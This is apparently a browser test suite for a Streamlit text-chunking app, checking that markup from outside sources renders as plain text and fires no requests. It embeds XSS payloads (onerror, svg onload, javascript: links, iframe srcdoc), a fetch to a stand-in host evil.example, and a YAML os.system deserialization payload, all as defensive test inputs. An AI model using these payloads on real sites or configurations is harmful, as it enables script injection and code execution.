"""Markup in everything that comes from outside, over every page: nothing of it runs, asks a server, or is kept."""

from __future__ import annotations

import json
from pathlib import Path
from urllib.parse import quote
from urllib.request import urlopen

import pytest
from waiting import choose_file, wait_for_end_of_run

from chunking.cli_app import START

pytestmark = [pytest.mark.browser, pytest.mark.slow]
APP = Path(__file__).parents[2] / "app.py"
#: without a slash, as a name of a file
IMAGE = "<img src=x onerror=trap(1)>"
TRAP = (
    "fetch('http:"
    + "//evil.example/a');localStorage.trap=1;document.cookie='trap=1';alert(1);trap(1)"
)
MARKUP = f"""{IMAGE}<script>{TRAP}</script><svg onload="{TRAP}"><iframe srcdoc="<script>{TRAP}</script>"></iframe>
![x](http://evil.example/b.png) [y](javascript:trap(1)) $\\href{{javascript:trap(1)}}{{z}}$ :red[q]
<style>@import url(http://evil.example/c.css)</style><form action=http://evil.example><input name=q></form>
<a href="javascript:trap(1)">w</a><math><mi xlink:href="javascript:trap(1)">m</mi></math>"""
ON_ONE_LINE = " ".join(MARKUP.split())
DOCUMENT = "\n\n".join(
    f"# Part {number} {IMAGE}\n\n{MARKUP}\n\nHigh water of day {number} is late.\n\n| {IMAGE} | b |\n|-|-|\n| =1+1 | {IMAGE} |\n\n```html\n{MARKUP}\n```"
    for number in range(3)
)
#: what would stand in a page where markup was taken for markup, whether a policy lets it run or not; a bare address
#: is made a link of its own words by Streamlit, as it is everywhere on the web
TAKEN = (
    "img[src='x'], img[src*=evil], svg[onload], iframe[srcdoc], [href^='javascript:'], [*|href^='javascript:'],"
    " form[action*=evil], [onerror]"
)
#: configurations that are refused, each of which says what it holds in its message
REFUSED = {
    "strategy.yaml": f"version: 1\nstrategy: {json.dumps(ON_ONE_LINE)}\n",
    "option.json": json.dumps({"version": 1, "strategy": "word", "options": {ON_ONE_LINE: IMAGE}}),
    "value.toml": f'version = 1\nstrategy = "sentence"\n[options]\nchunk_size = "{IMAGE}"\n',
    "tag.yaml": f"version: 1\nstrategy: !!python/object/apply:os.system ['{IMAGE}']\n",
    f"{IMAGE}.yaml": "a: [",
}
#: what a page shows last
PAGES = {
    "Structure": ".outline canvas",
    "Compare": ".compare .row",
    "Evaluate": ".frame .row",
    "Experiments": "h4, .frame .row",
    "Playground": ".passages .card",
    "Similarity": ".similarity-line",
    "Autotune": "[data-testid=stBaseButton-primary]",
}


@pytest.fixture
def files(tmp_path, monkeypatch):
    """A document, questions and a configuration, each full of markup, which the app opens with."""
    document = tmp_path / f"{IMAGE}.md"
    document.write_text(DOCUMENT)
    questions = tmp_path / "questions.json"
    about = {"excerpts": ["High water of day 2 is late."], "document": document.name}
    questions.write_text(json.dumps([{"question": f"When is {ON_ONE_LINE}?", **about}]))
    configuration = tmp_path / "tuned.yaml"
    configuration.write_text(
        f"version: 1\nstrategy: markdown\nroutes:\n- match: '{IMAGE}*.md'\n  strategy: sentence\n"
    )
    start = {
        "documents": [str(document)],
        "configuration": str(configuration),
        "questions": str(questions),
        "project": None,
        "present": False,
    }
    monkeypatch.setenv(START, json.dumps(start))
    return document


@pytest.fixture
def trapped(page):
    """The page, with all that it must not do noted."""
    page.noted = []
    page.add_init_script("window.trap = () => { window.sprung = true; };")
    page.on("dialog", lambda dialog: (page.noted.append(dialog.message), dialog.dismiss()))
    page.on(
        "request",
        lambda request: (
            "evil.example" in request.url.split("?")[0] and page.noted.append(request.url)
        ),
    )
    return page


def check(page, where):
    wait_for_end_of_run(page)
    assert page.evaluate("() => window.sprung ?? null") is None, where
    assert page.locator(TAKEN).evaluate_all("(all) => all.map((each) => each.outerHTML)") == [], (
        where
    )
    kept = page.evaluate(
        "() => [Object.keys(localStorage), Object.keys(sessionStorage), document.cookie].join()"
    )
    assert "trap" not in kept.split(","), where
    assert page.noted == [], where
    assert page.locator("[data-testid=stException]").count() == 0, where


def test_markup_from_outside_is_text_on_every_page(trapped, serve, files):
    address = serve(APP, "--server.runOnSave=false")
    trapped.goto(f"{address}/?markdown.chunk_size=40&strategy=markdown")
    trapped.locator(".viewer .row", has_text="onerror").first.wait_for()
    trapped.locator(".viewer .row .text").first.click()
    trapped.locator(".st-key-inspector").filter(visible=True).wait_for()
    check(trapped, "Tune")
    trapped.get_by_role("tab", name="Table").click()
    trapped.get_by_role("table", name="Chunks").wait_for()
    check(trapped, "Tune, table")
    trapped.get_by_role("button", name="Take away").click()
    trapped.get_by_role("tab", name="Chunks").click()
    trapped.get_by_role("dialog").get_by_text("one record a chunk").wait_for()
    check(trapped, "Tune, what is taken away")
    trapped.keyboard.press("Escape")
    trapped.get_by_role("dialog").wait_for(state="detached")
    for title, last in PAGES.items():
        trapped.get_by_role("link", name=title).click()
        if title == "Playground":
            trapped.get_by_role("searchbox", name="Question").fill(ON_ONE_LINE)
            trapped.keyboard.press("Enter")
        trapped.locator(last).first.wait_for()
        check(trapped, title)


def test_markup_in_addresses_is_text_and_an_oversized_one_harms_nobody(trapped, serve, files):
    address = serve(APP, "--server.runOnSave=false")
    names = (
        *("document", "strategy", "markdown.chunk_size", "model", "sentence.tokenizer"),
        ON_ONE_LINE,
    )
    trapped.goto(f"{address}/?{'&'.join(f'{quote(name)}={quote(ON_ONE_LINE)}' for name in names)}")
    trapped.locator(".viewer .row").first.wait_for()
    check(trapped, "address")
    trapped.goto(f"{address}/?document={'a' * 50_000}")
    with urlopen(f"{address}/_stcore/health") as answer:
        assert answer.status == 200


def test_markup_in_json_and_in_configuration_files_is_text(trapped, serve, files):
    trapped.goto(f"{serve(APP, '--server.runOnSave=false')}/?strategy=records")
    rows = [{ON_ONE_LINE: MARKUP, IMAGE: [{ON_ONE_LINE: IMAGE}] * 3}] * 8
    _hand_in(trapped, "[data-testid=stSidebar]", f"{IMAGE}.json", json.dumps(rows))
    trapped.wait_for_url("**json*")
    trapped.locator(".viewer .row", has_text="onerror").first.wait_for()
    check(trapped, "JSON")
    trapped.get_by_text("Presets and files").click()
    trapped.get_by_role("button", name="Open configuration").click()
    for name, text in REFUSED.items():
        _hand_in(trapped, "[data-testid=stPopoverBody]", name, text)
        trapped.locator("[data-testid=stAlert]", has_text=name).wait_for()
        check(trapped, name)


def _hand_in(page, place, name, text):
    file = {"name": name, "mimeType": "text/plain", "buffer": text.encode()}
    choose_file(page.locator(f"{place} input[type=file]").first, file)
